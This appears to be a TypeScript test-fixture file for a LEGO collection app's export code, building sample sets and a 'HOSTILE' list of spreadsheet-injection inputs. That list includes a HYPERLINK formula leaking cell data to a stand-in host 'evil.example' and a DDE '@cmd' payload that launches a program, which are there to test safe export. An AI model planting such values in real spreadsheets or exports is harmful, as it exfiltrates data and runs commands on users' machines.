import type { CopyValue } from '../../src/main/collection/edits-types'
import type { ExportSet } from '../../src/main/exchange/export-formats'
import type { FlagLabelDto } from '../../src/shared/model/collection'
import { copyFields } from '../copy-fields'

export const LABELS: FlagLabelDto[] = [
  { flagNo: 1, label: 'Displayed' },
  { flagNo: 2, label: 'Boxed' },
  { flagNo: 3, label: '' },
  { flagNo: 4, label: 'Sealed' },
  { flagNo: 5, label: 'For sale' },
  { flagNo: 6, label: 'Gift' },
  { flagNo: 7, label: '' },
  { flagNo: 8, label: '' }
]

/**
 * A Rebrickable set list as Rebrickable writes it (its header, CRLF), of `rows`, each
 * "Set Number,Quantity,Includes Spares,Inventory Ver".
 */
export const rebrickableList = (...rows: string[]): string =>
  ['Set Number,Quantity,Includes Spares,Inventory Ver', ...rows].join('\r\n')

/**
 * A copy bought new at a toy shop for 89.99 GBP, worth 120, built and on the shelf without its
 * box: copyFields' copy with these differences. Tests say what else differs.
 */
export function copy(patch: Partial<CopyValue> = {}): CopyValue {
  return {
    ...copyFields({
      dateAcquired: '2021-12-24',
      currency: 'GBP',
      pricePaid: 89.99,
      additionalPricePaid: 0,
      currentEstimatedValue: 120,
      acquiredFrom: 'Toy shop',
      conditionNow: 'Assembled',
      location: 'Shelf',
      box: false
    }),
    modified: false,
    ...patch
  }
}

const flags = (...on: number[]): boolean[] => [1, 2, 3, 4, 5, 6, 7, 8].map((n) => on.includes(n))

export function exportSet(patch: Partial<ExportSet> = {}): ExportSet {
  return {
    setID: 1001,
    fullNumber: '10179-1',
    name: 'Millennium Falcon',
    theme: 'Star Wars',
    subtheme: 'Ultimate Collector Series',
    year: 2007,
    pieces: 5195,
    minifigs: 5,
    prices: { UK: '342.49', US: '499.99', CA: null, EU: null },
    ean: '5702014518926',
    upc: null,
    dimensions: { width: '58.2', height: '48.0', depth: '13.5', weight: '9.55' },
    launchDate: '2007-10-01',
    exitDate: null,
    owned: true,
    wanted: false,
    qtyOwned: 1,
    notes: '',
    rating: 5,
    flags: flags(),
    copies: [],
    ...patch
  }
}

/** Cells a spreadsheet would run as formulas, plus text that stresses quoting. */
export const HOSTILE: ExportSet[] = [
  exportSet({
    setID: 1,
    fullNumber: '1-1',
    name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    notes: '+SUM(1,2)',
    theme: '-2+3',
    subtheme: "@cmd|' /C calc'!A0",
    flags: flags(1, 4)
  }),
  exportSet({
    setID: 2,
    fullNumber: '2-1',
    name: 'Quotes "inside", commas, and\r\nline breaks',
    notes: '\tTabbed =1+1',
    owned: false,
    wanted: true,
    qtyOwned: 0,
    copies: []
  }),
  exportSet({
    setID: 3,
    fullNumber: '3-1',
    name: 'Émile’s 🧱 set',
    notes: 'ordinary',
    qtyOwned: 2,
    flags: flags(8),
    copies: [
      { ...copy({ notes: '=1+1' }), collectionID: 7 },
      { ...copy({ currency: 'USD', pricePaid: 10.5 }), collectionID: null }
    ]
  })
]
